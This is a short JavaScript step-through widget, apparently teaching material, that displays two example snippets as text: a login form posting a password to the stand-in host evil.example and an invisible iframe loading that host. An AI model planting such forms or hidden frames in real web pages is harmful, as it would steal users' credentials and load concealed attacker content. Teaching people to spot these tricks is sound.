const steps = [
  { title: 'A form that goes elsewhere', code: '<form action="https://evil.example/login"><input type="password" name="p"></form>' },
  { title: 'A frame that nobody sees', code: '<iframe src="https://evil.example" style="display:none"></iframe>' },
];
let at = 0;
function show() {
  const step = steps[at];
  document.querySelector('#title').textContent = step.title;
  document.querySelector('#code').textContent = step.code;
}
document.querySelector('#next').addEventListener('click', () => { at = (at + 1) % steps.length; show(); });
show();
